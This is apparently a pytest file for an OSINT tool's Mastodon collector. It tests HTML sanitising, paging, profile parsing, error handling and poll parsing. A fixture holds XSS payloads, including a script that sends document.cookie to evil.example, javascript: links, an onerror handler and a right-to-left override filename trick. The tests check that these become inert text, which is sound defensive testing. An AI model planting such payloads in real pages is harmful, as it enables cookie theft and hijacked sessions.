"""The Mastodon normaliser (hostile HTML included), Link paging, errors and status look-ups."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest

from osint.collectors.base import PageQuery
from osint.collectors.htmltext import html_to_text
from osint.collectors.http import HttpClient
from osint.collectors.mastodon import (
    MastodonCollector,
    id_time,
    next_max_id,
    post_from_status,
    profile_from,
)
from osint.config import Settings
from osint.errors import AccountNotFound, AccountUnavailable, CollectError, InputError

HOSTILE = (
    '<p>Vérité &amp; justice<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    '<br /><a href="javascript:alert(document.domain)">cliquez</a> '
    '<a href="JaVaScRiPt:alert(1)" onclick="alert(2)">ici</a><img src=x onerror=alert(3)>'
    "<style>body{display:none}</style>&lt;script&gt;pas du code&lt;/script&gt;</p>"
    '<p><a href="https://news.example/a" rel="nofollow noopener" target="_blank">'
    '<span class="invisible">https://</span><span class="">news.example/a</span></a> '
    '<a href="https://mastodon.example/tags/gossi" class="mention hashtag" rel="tag">'
    '#<span>Gossi</span></a> <span class="h-card"><a href="https://news.example/@sahel" '
    'class="u-url mention">@<span>sahel</span></a></span>'
    '<iframe src="https://evil.example"></iframe>\u202etxt.exe</p>'
)
ACCOUNT = {
    "id": "109",
    "username": "dia",
    "acct": "dia",
    "display_name": "Dia Diarra",
    "locked": False,
    "bot": False,
    "created_at": "2022-04-15T00:00:00.000Z",
    "note": "<p>Malienne<script>x()</script></p>",
    "url": "https://mastodon.example/@dia",
    "avatar": "https://files.mastodon.example/accounts/avatars/1/original/a.png",
    "header": "https://files.mastodon.example/accounts/headers/1/original/h.png",
    "followers_count": 12,
    "following_count": 80,
    "statuses_count": 3,
    "fields": [
        {
            "name": "Site",
            "value": '<a href="https://example.org" rel="me">example.org</a>',
            "verified_at": "2022-04-16T00:00:00.000+00:00",
        }
    ],
}


def status(status_id: str, **fields: Any) -> dict[str, Any]:
    base = {
        "id": status_id,
        "created_at": "2022-04-21T10:00:00.000Z",
        "uri": f"https://mastodon.example/users/dia/statuses/{status_id}",
        "url": f"https://mastodon.example/@dia/{status_id}",
        "account": ACCOUNT,
        "content": "<p>plain</p>",
        "language": "fr",
        "visibility": "public",
        "media_attachments": [],
        "mentions": [],
        "tags": [],
        "reblog": None,
        "replies_count": 0,
        "reblogs_count": 4,
        "favourites_count": 1,
    }
    return {**base, **fields}


def test_hostile_html_becomes_inert_text_and_the_original_is_kept() -> None:
    post = post_from_status(
        status(
            "110",
            content=HOSTILE,
            tags=[{"name": "gossi"}],
            mentions=[{"acct": "sahel@news.example"}],
        ),
        "mastodon.example",
        "mastodon.example",
    )
    assert post.text_html == HOSTILE  # the evidence, byte for byte
    assert "fetch(" not in post.text and "display:none" not in post.text
    assert "<" not in post.text.replace("<script>pas du code</script>", "")
    assert "<script>pas du code</script>" in post.text  # escaped text stays text
    assert post.text.startswith("Vérité & justice\ncliquez ici")
    assert post.links == ["https://news.example/a"]  # no javascript:, no tag or mention links
    assert post.hashtags == ["gossi"] and post.mentions == ["sahel@news.example"]
    assert "\u202e" in post.text  # kept as a character; the report shows it as [U+202E]
    assert post.platform_id == "mastodon.example/110" and post.kind == "post"
    assert post.metrics == {"replies_count": 0, "reblogs_count": 4, "favourites_count": 1}


def test_html_to_text_layout() -> None:
    assert html_to_text("<p>a<br>b</p><p>c</p>") == "a\nb\n\nc"
    assert html_to_text("<p>" + "<b>" * 5000 + "deep" + "</b>" * 5000 + "</p>") == "deep"
    assert html_to_text(None) == "" and html_to_text("<script>only()</script>") == ""


def test_reblogs_replies_quotes_and_media() -> None:
    original = status(
        "100",
        uri="https://news.example/users/sahel/statuses/555",
        url="https://news.example/@sahel/555",
        account={**ACCOUNT, "acct": "sahel@news.example", "username": "sahel"},
        content="<p>Images de Gossi</p>",
    )
    reblog = post_from_status(status("120", content="", reblog=original), "m.example", "m.example")
    assert reblog.kind == "repost" and reblog.text == "Images de Gossi"  # what readers see
    assert reblog.repost_of == "https://news.example/users/sahel/statuses/555"  # global URI
    assert reblog.extra["reposted"]["text"] == "Images de Gossi"
    assert reblog.account.platform_id == "dia@m.example"  # local acct completed
    reply = post_from_status(status("121", in_reply_to_id="100"), "m.example", "m.example")
    assert reply.kind == "reply" and reply.reply_to == "m.example/100"
    quote = post_from_status(
        status("122", quote={"state": "accepted", "quoted_status": original}), "m", "m"
    )
    assert quote.kind == "quote" and quote.quote_of == original["uri"]
    media = [
        {"id": "1", "type": "image", "url": "https://f/1.png", "preview_url": "https://f/1s.png"},
        {"id": "2", "type": "gifv", "url": "https://f/2.mp4", "preview_url": "https://f/2.png"},
        {"id": "3", "type": "image", "url": None, "remote_url": "https://origin/3.jpg"},
        {"id": "4", "type": "audio", "url": "https://f/4.mp3", "preview_url": None},
    ]
    refs = post_from_status(status("123", media_attachments=media), "m", "m").media
    assert [(r.kind, r.source_url) for r in refs] == [
        ("photo", "https://f/1.png"),
        ("gif", "https://f/2.png"),
        ("photo", "https://origin/3.jpg"),
        ("other", None),
    ]
    assert refs[3].error == "no URL for its audio in the response"


def test_ids_links_profiles_and_targets() -> None:
    stamp = datetime(2022, 4, 21, 10, 15, tzinfo=UTC)
    assert id_time(str(int(stamp.timestamp() * 1000) << 16 | 7)) == stamp
    assert id_time("42") is None
    link = (
        '<https://m.example/api/v1/accounts/1/statuses?limit=40&max_id=105>; rel="next", '
        '<https://m.example/api/v1/accounts/1/statuses?limit=40&min_id=140>; rel="prev"'
    )
    assert next_max_id(link) == "105" and next_max_id(link.split(", ")[1]) is None
    assert next_max_id(None) is None
    profile = profile_from(ACCOUNT, "mastodon.example", "https://mastodon.example")
    assert profile.account.platform_id == "dia@mastodon.example" and profile.bio == "Malienne"
    assert profile.url == "https://example.org" and profile.extra["id"] == "109"
    assert profile.extra["fields"][0]["value"] == "example.org"
    assert MastodonCollector.normalize_target("https://Mastodon.Example/@Dia") == (
        "dia@mastodon.example"
    )
    assert MastodonCollector.normalize_target("https://m.example/@dia@other.example") == (
        "dia@other.example"
    )
    assert MastodonCollector.normalize_target("@Dia@Mastodon.Example") == "dia@mastodon.example"
    with pytest.raises(InputError, match="not a Mastodon user@instance"):
        MastodonCollector.normalize_target("dia")
    assert MastodonCollector.newest_id(["h/9", "h/10", "junk"]) == "h/10"


def collector(settings: Settings, answer: Any) -> MastodonCollector:
    settings = settings.with_overrides(http_min_interval=0.0, http_backoff=0.0)
    return MastodonCollector(HttpClient(settings, transport=httpx.MockTransport(answer)), settings)


def test_the_instance_comes_from_the_target_unless_set(settings: Settings) -> None:
    seen: list[httpx.Request] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        if request.url.path.endswith("/lookup"):
            return httpx.Response(200, content=json.dumps(ACCOUNT).encode())
        link = '<https://x/api/v1/accounts/109/statuses?limit=40&max_id=120>; rel="next"'
        statuses = [status("125"), status("121"), status("120")]
        return httpx.Response(200, content=json.dumps(statuses).encode(), headers={"Link": link})

    mastodon = collector(settings, answer)
    profile = mastodon.fetch_profile("dia@mastodon.social").profile
    assert (
        str(seen[0].url)
        == "https://mastodon.social/api/v1/accounts/lookup?acct=dia%40mastodon.social"
    )
    page = mastodon.fetch_page(profile, PageQuery(cursor="130", since_id="mastodon.social/120"))
    assert seen[1].url.params["max_id"] == "130" and seen[1].url.params["since_id"] == "120"
    assert [p.platform_id for p in page.posts] == ["mastodon.social/125", "mastodon.social/121"]
    assert page.next_cursor is None  # the last run's newest was reached
    other = collector(settings.with_overrides(mastodon_instance_url="https://my.example"), answer)
    other.fetch_profile("dia@mastodon.social")
    assert seen[2].url.host == "my.example"


@pytest.mark.parametrize(
    ("status_code", "body", "error", "match"),
    [
        (404, {"error": "Record not found"}, AccountNotFound, "no account @dia@m.example"),
        (410, {"error": "Gone"}, AccountUnavailable, "suspended"),
        (401, {"error": "This API requires an authenticated user"}, CollectError, "login"),
        (200, {**ACCOUNT, "suspended": True}, AccountUnavailable, "suspended"),
    ],
)
def test_account_errors(
    settings: Settings, status_code: int, body: Any, error: type[Exception], match: str
) -> None:
    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(status_code, content=json.dumps(body).encode())

    with pytest.raises(error, match=match):
        collector(settings, answer).fetch_profile("dia@m.example")


def test_lookup_posts_against_the_replay_server(x_settings: Settings, replay: Any) -> None:
    from tests.demo.replay.worlds import dia_world

    dia = dia_world(replay.world, posts=3, platform="mastodon")
    posts = replay.world.timeline(dia)
    replay.world.delete_post(posts[0])
    host = replay.url.removeprefix("http://")
    wanted = [f"{host}/{p.id}" for p in posts[:3]] + [f"{host}/42"]
    with HttpClient(x_settings) as http:
        lookup = MastodonCollector(http, x_settings).lookup_posts(wanted)
    assert sorted(p.platform_id for p in lookup.found) == sorted(wanted[1:3])
    # the same account as a collection run files it, though the instance's host is 127.0.0.1
    assert {p.account.platform_id for p in lookup.found} == {"dia_diarra@mastodon.example"}
    assert lookup.missing == {
        wanted[0]: "HTTP 404: Record not found",
        wanted[3]: "HTTP 404: Record not found",
    }
    assert lookup.capture is not None and lookup.capture.url.endswith("/api/v1/statuses/42")


def test_a_poll_is_structured_content() -> None:
    """The Poll entity as the Mastodon API documents it (docs.joinmastodon.org/entities/Poll)."""
    poll = {
        "id": "34830",
        "expires_at": "2022-04-22T10:00:00.000Z",
        "expired": True,
        "multiple": False,
        "votes_count": 10,
        "voters_count": 10,
        "options": [{"title": "Wagner", "votes_count": 6}, {"title": "FAMa", "votes_count": 4}],
        "emojis": [],
        "voted": False,
        "own_votes": [],
    }
    post = post_from_status(
        status("130", content="<p>Qui ?</p>", poll=poll), "m.example", "m.example"
    )
    assert post.content == [
        {
            "type": "poll",
            "id": "34830",
            "options": [{"text": "Wagner", "votes": 6}, {"text": "FAMa", "votes": 4}],
            "expires_at": "2022-04-22T10:00:00.000Z",
            "expired": True,
            "multiple": False,
            "votes_count": 10,
            "voters_count": 10,
        }
    ]
